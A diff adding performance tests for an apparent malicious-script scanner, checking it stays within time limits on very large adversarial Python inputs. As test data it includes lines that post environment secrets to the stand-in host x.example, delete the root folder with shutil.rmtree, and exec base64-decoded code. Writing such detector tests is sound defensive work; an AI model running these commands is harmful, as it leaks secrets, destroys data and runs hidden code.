@@ -30,6 +30,15 @@ const hiddenSteps = Buffer.from(
 ).toString("base64");
 const payload = "a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8s9t0u1v2";
 
+/** As many lines as a script may have beside a text of 200,000 characters. */
+function again(head: string, line: string): void {
+  const text = `import base64\nimport os\nimport requests\n${head}\n`;
+  const rest = line.repeat(Math.floor((399_000 - text.length) / line.length));
+  judgeScripts([{ path: "a.py", text: text + rest, language: "python" }]);
+}
+
+const long = "ab".repeat(99_000);
+
 test.each<[name: string, read: () => unknown, mostMs?: number]>([
   [
     "a decoded word without an end",
@@ -82,6 +91,45 @@ test.each<[name: string, read: () => unknown, mostMs?: number]>([
     5_000,
   ],
   [
+    "a long literal that is decoded in each line",
+    () => again(`b = base64.b64decode\nx = "${long}"`, "b(x)\n"),
+    8_000,
+  ],
+  [
+    "a long text that is turned around in each line",
+    () => again(`x = "${long}"`, "x[::-1]\n"),
+    8_000,
+  ],
+  [
+    "a long text that is put together in each line",
+    () => again(`x = "${long}"\ny = "b"`, "x + y\n"),
+    8_000,
+  ],
+  [
+    "a long list that is spelled out in each line",
+    () => again(`x = [${"97,".repeat(66_000)}]`, "bytes(x)\n"),
+    8_000,
+  ],
+  [
+    "secrets that are sent in each line",
+    () => again("e = os.environ", 'requests.post("https://x.example", data=e)\n'),
+    8_000,
+  ],
+  [
+    "folders that are removed in each line",
+    () => again("import shutil", 'shutil.rmtree("/")\n'),
+    8_000,
+  ],
+  [
+    "many keys of one service beside many hosts",
+    () => {
+      const keys = Array.from({ length: 12_000 }, (_, at) => `process.env.github_key_${at};`);
+      const hosts = Array.from({ length: 40 }, (_, at) => `"https://api${at}.github.com/"`);
+      traitsOf([...keys, ...hosts].join("\n"), () => true);
+    },
+    600,
+  ],
+  [
     "lists that stand twice in each other",
     () => {
       const lists = Array.from({ length: 40 }, (_, at) => `const a${at + 1} = [a${at}, a${at}];\n`);
@@ -126,9 +174,32 @@ test.each<[name: string, read: () => unknown, mostMs?: number]>([
     () =>
       told(`Run:\n\n\`\`\`python\n${`# avoid${" ".repeat(32_000)}x\n`.repeat(8)}${sends}\`\`\`\n`),
   ],
+  [
+    "code with a hit in each of many lines",
+    () => {
+      const sent = 'requests.post("https://x.example", data=os.environ)\n';
+      told(
+        `Run:\n\n\`\`\`python\nimport os, requests\n${`# ${"a b ".repeat(9)}\n${sent}`.repeat(4_000)}\`\`\`\n`,
+      );
+    },
+  ],
 ])("%s takes no longer than its length allows", (_name, read, mostMs = 2_000) => {
   const from = process.cpuUsage();
   read();
   const { user, system } = process.cpuUsage(from);
   expect((user + system) / 1_000).toBeLessThan(mostMs);
+});
+
+test("scripts in which too much would have to be computed are said to be followed in part", () => {
+  const text = `x = "${long}"\n${"x[::-1]\n".repeat(2_000)}`;
+  const { notFollowed } = judgeScripts([{ path: "a.py", text, language: "python" }]);
+  expect([...notFollowed]).toEqual(["a.py"]);
+});
+
+test("a script that decodes one text at each of fifty lines is followed", () => {
+  const code = Buffer.from(`import os\nprint(1)\n#${"a ".repeat(4_000)}`);
+  const text = `import base64\nx = "${code.toString("base64")}"\n${"exec(base64.b64decode(x))\n".repeat(50)}`;
+  const { hits, notFollowed } = judgeScripts([{ path: "a.py", text, language: "python" }]);
+  expect(hits.get("a.py")?.get("EXE-001")).toHaveLength(50);
+  expect([...notFollowed]).toEqual([]);
 });
